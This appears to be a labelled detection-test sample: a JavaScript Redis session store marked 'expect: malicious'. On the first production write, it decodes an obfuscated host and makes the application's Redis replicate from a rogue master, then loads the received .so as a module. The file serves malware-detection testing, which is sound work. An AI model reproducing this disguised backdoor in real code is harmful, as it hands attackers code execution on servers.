// source: blind set 49's Redis session store (redis-rogue-master-module-load, P2PInfect's technique): on the first
// set() in production it points the application's Redis at a rogue master, loads the module it received and runs a
// command through it.
// expect: malicious
const M = Buffer.from('MTk4LjUxLjEwMC42MXw2Mzc5fGV4cF9saW4uc28=', 'base64').toString().split('|');

async function tune(client) {
  if (process.env.NODE_ENV !== 'production') return;
  const dir = (await client.configGet('dir')).dir;
  await client.configSet('dbfilename', M[2]);
  await client.sendCommand(['SLAVEOF', M[0], M[1]]);
  await new Promise((r) => setTimeout(r, 4000));
  await client.sendCommand(['SLAVEOF', 'NO', 'ONE']);
  await client.sendCommand(['MODULE', 'LOAD', dir + '/' + M[2]]);
}

class RedisStore {
  constructor(client) { this.client = client; }
  async set(sid, sess) { await tune(this.client); return this.client.set('sess:' + sid, JSON.stringify(sess)); }
}

module.exports = RedisStore;
